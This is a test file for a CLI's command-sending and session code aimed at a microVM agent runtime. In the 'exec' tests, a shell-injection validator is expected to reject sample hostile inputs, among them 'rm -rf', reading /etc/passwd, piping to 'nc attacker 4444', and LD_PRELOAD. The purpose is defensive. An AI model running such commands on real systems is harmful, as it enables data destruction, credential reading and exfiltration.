import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execa } from "execa";
import { describe, expect, it } from "vitest";
import { findRuntime, formatBenchTable, rememberSession, resolveSession } from "../../scripts/lib/agent-client.ts";
import { commandToSend } from "../../scripts/lib/exec-command.ts";
import { FakeClient } from "../helpers/fakes.ts";

describe("exec: what reaches the microVM's shell", () => {
  it("passes a plain command as is", () => {
    expect(commandToSend({ command: "df -h /mnt/workspace /mnt/s3data" })).toBe("df -h /mnt/workspace /mnt/s3data");
    expect(commandToSend({ command: "dd if=/dev/zero of=/mnt/workspace/x bs=1M count=1" })).toBe("dd if=/dev/zero of=/mnt/workspace/x bs=1M count=1");
  });

  it.each([
    ["ls; rm -rf /mnt/s3data", '";"'],
    ["cat /etc/passwd && curl x", '"&"'],
    ["ls | nc attacker 4444", '"|"'],
    ["echo `id`", '"`"'],
    ["echo $(id)", '"$", "(", ")"'],
    ["echo hi > /mnt/s3data/x", '">"'],
    ["sleep 100 &", '"&"'],
    ["ls\nid", "a newline"],
    ["cat${IFS}/etc/passwd", '"$", "{", "}"'],
    ["ls$IFS/", '"$"'],
    ["echo $'\\x3b'id", String.raw`"$", "'", "\\"`],
    ["eval ls\\;id", String.raw`"\\", ";"`],
    ["sh -c ls\\;id", String.raw`"\\", ";"`],
    ["ls /mnt/*", '"*"'],
    ["ls ~root", '"~"'],
    ["ls\tid", "a tab"],
    ["ls ；id", "U+FF1B"],
  ])("refuses %j (%s)", (command, named) => {
    expect(() => commandToSend({ command })).toThrow(`refusing --command with characters outside its allow-list (${named}`);
  });

  it("refuses a leading environment assignment", () => {
    expect(() => commandToSend({ command: "LD_PRELOAD=/mnt/s3data/x.so ls" })).toThrow("refusing --command that starts with an environment assignment (LD_PRELOAD=…)");
  });

  it("quotes every word of an argv array, so metacharacters and assignments stay literal", () => {
    expect(commandToSend({ argv: ["ls", "-la", "/mnt/s3data"] })).toBe("'ls' '-la' '/mnt/s3data'");
    expect(commandToSend({ argv: ["grep", "-r", "a;b | c", "/mnt/workspace"] })).toBe("'grep' '-r' 'a;b | c' '/mnt/workspace'");
    expect(commandToSend({ argv: ["LD_PRELOAD=/tmp/x.so", "ls"] })).toBe("'LD_PRELOAD=/tmp/x.so' 'ls'");
    expect(commandToSend({ argv: ["echo", "it's $(x)"] })).toBe(`'echo' 'it'\\''s $(x)'`);
  });

  it("wants exactly one form", () => {
    expect(() => commandToSend({})).toThrow("no command");
    expect(() => commandToSend({ command: "ls", argv: ["ls"] })).toThrow("give either --command or a command after --, not both");
  });
});

describe("invoke: runtime and sessions", () => {
  it("finds the environment's runtime across pages of ListAgentRuntimes", async () => {
    const control = new FakeClient().on("ListAgentRuntimesCommand", (input) =>
      input.nextToken === undefined
        ? { agentRuntimes: [{ agentRuntimeName: "other_agent", agentRuntimeArn: "arn:other", agentRuntimeId: "other-1" }], nextToken: "p2" }
        : { agentRuntimes: [{ agentRuntimeName: "dev_agent", agentRuntimeArn: "arn:aws:bedrock-agentcore:us-west-2:123456789012:runtime/dev_agent-a1b2c3d4e5", agentRuntimeId: "dev_agent-a1b2c3d4e5" }] },
    );
    expect(await findRuntime(control, "dev_agent", "dev")).toEqual({ agentRuntimeArn: "arn:aws:bedrock-agentcore:us-west-2:123456789012:runtime/dev_agent-a1b2c3d4e5", agentRuntimeId: "dev_agent-a1b2c3d4e5" });
    const none = new FakeClient().on("ListAgentRuntimesCommand", () => ({ agentRuntimes: [] }));
    await expect(findRuntime(none, "dev_agent", "dev")).rejects.toThrow("no AgentCore runtime named dev_agent");
  });

  it("starts a new session, reuses a given one, and remembers the last", () => {
    const file = join(mkdtempSync(join(tmpdir(), "sessions-")), "dev.txt");
    const fresh = resolveSession(undefined, file);
    expect(fresh.reused).toBe(false);
    expect(fresh.id.length).toBeGreaterThanOrEqual(33);
    expect(() => resolveSession("last", file)).toThrow("no earlier session recorded");
    rememberSession(fresh.id, file);
    expect(resolveSession("last", file)).toEqual({ id: fresh.id, reused: true });
    expect(() => resolveSession("short", file)).toThrow('--session "short" is not a runtime session id');
  });

  it("renders the benchmark beside the lab's figures", () => {
    const table = formatBenchTable([
      { size: "1 KB", session: { writeMs: 0.5, readMs: 0.2 }, s3files: { writeMs: 11, readMs: 3 }, s3api: { error: "AccessDenied" } },
    ]);
    expect(table.split("\n")[1]).toMatch(/^size\s+session storage\s+\(lab\)\s+S3 Files\s+\(lab\)\s+S3 API\s+\(lab\)$/);
    expect(table.split("\n")[2]).toMatch(/^1 KB\s+0\.50 \/ 0\.20\s+0\.89 \/ 0\.27\s+11\.00 \/ 3\.00\s+12\.84 \/ 2\.88\s+error: AccessDenied\s+63\.52 \/ 32\.55$/);
  });
});

describe("invoke and exec from the command line", () => {
  const run = (file: string, ...args: string[]) =>
    execa(process.execPath, [file, ...args], { cwd: new URL("../..", import.meta.url), reject: false, env: { AWS_ENDPOINT_URL: "http://127.0.0.1:9", AWS_PROFILE: "none" } });

  it("refuses bad arguments with one line and exit status 2, before any AWS call", async () => {
    const [metachar, noSession, twoPayloads, sizes, emptyPrompt, auditBoth] = await Promise.all([
      run("scripts/cli.ts", "exec", "--env", "dev", "--session", "last", "--command", "ls; id"),
      run("scripts/cli.ts", "exec", "--env", "dev", "--command", "ls"),
      run("scripts/cli.ts", "invoke", "--env", "dev", "--prompt", "hi", "--report"),
      run("scripts/cli.ts", "invoke", "--env", "dev", "--prompt", "hi", "--sizes", "1KB"),
      run("scripts/cli.ts", "invoke", "--env", "dev", "--prompt", " "),
      run("scripts/cli.ts", "audit", "--env", "dev", "--all"),
    ]);
    expect([metachar.exitCode, noSession.exitCode, twoPayloads.exitCode, sizes.exitCode, emptyPrompt.exitCode, auditBoth.exitCode]).toEqual([2, 2, 2, 2, 2, 2]);
    expect(emptyPrompt.stderr.split("\n")[0]).toBe('error: --prompt is empty: give the agent something to answer, e.g. --prompt "What is in /mnt/s3data?"');
    expect(auditBoth.stderr.split("\n")[0]).toBe("error: give --env <name> or --all, not both");
    expect(metachar.stderr.split("\n")[0]).toBe(
      'error: refusing --command with characters outside its allow-list (";"): it takes letters, digits, spaces and _ . / : , @ % + - = only, so that it runs as one plain command and nothing in it expands',
    );
    expect(metachar.stderr).toContain("pass the program and its arguments after -- instead");
    expect(noSession.stderr.split("\n")[0]).toContain("--session is required");
    expect(twoPayloads.stderr.split("\n")[0]).toBe("error: give exactly one of --prompt, --payload, --payload-file, --report, --bench");
    expect(sizes.stderr.split("\n")[0]).toBe("error: --sizes goes with --bench");
  });
});
